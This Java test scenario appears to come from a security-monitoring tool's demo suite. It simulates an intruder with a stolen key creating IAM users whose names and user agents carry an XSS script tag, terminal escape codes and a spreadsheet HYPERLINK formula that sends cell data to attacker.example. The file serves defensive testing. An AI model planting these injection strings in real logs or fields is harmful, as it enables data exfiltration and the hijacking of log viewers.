package dev.trailhunt.run.demo;

import java.util.List;

/**
 * Somebody who knows that logs are read: names and user agents that a terminal, a web page or a
 * spreadsheet would obey if it were shown them as they are.
 */
final class HostileStrings implements Story {
  private static final String THIEF = "2001:db8:bad:c::66";
  private static final String STOLEN_KEY_OF = "badge-printer";

  /** IAM allows this name; a spreadsheet takes it for a formula. */
  private static final String FORMULA_USER = "=1+1";

  private static final String MARKUP_AGENT = "\"><script>alert(1)</script>";
  private static final String FORMULA_AGENT =
      "=HYPERLINK(\"https://attacker.example/?\"&A1,\"open\")";
  private static final String TERMINAL_AGENT =
      "\u001b[31mred\u001b[0m\u001b]0;owned\u0007\r\nalert suppressed";
  private static final List<String> REFUSED_NAMES =
      List.of(
          "<img src=x onerror=alert(1)>",
          "\u001b[2J\u001b[31mnobody",
          "=HYPERLINK(\"https://attacker.example\")");

  @Override
  public String name() {
    return "hostile-strings";
  }

  @Override
  public void tell(Script script) {
    Caller markup = thief(MARKUP_AGENT);
    script
        .on(5, "06:44:10")
        .then(0, Iam.createUser(markup, FORMULA_USER))
        .then(4, Iam.createLoginProfile(markup, FORMULA_USER, false), Expected.ALERT)
        .then(30, Iam.updateLoginProfile(thief(FORMULA_AGENT), FORMULA_USER, false), Expected.ALERT)
        .then(
            30, Iam.updateLoginProfile(thief(TERMINAL_AGENT), FORMULA_USER, false), Expected.ALERT);
    for (String refused : REFUSED_NAMES) {
      script.then(
          15,
          Iam.createLoginProfile(markup, refused, false)
              .fails(
                  "ValidationException", "The specified value for userName is invalid: " + refused),
          Expected.NOTHING);
    }
  }

  private static Caller thief(String userAgent) {
    return Caller.with(Identity.userWithKey(Company.PROD, STOLEN_KEY_OF), THIEF, userAgent);
  }
}
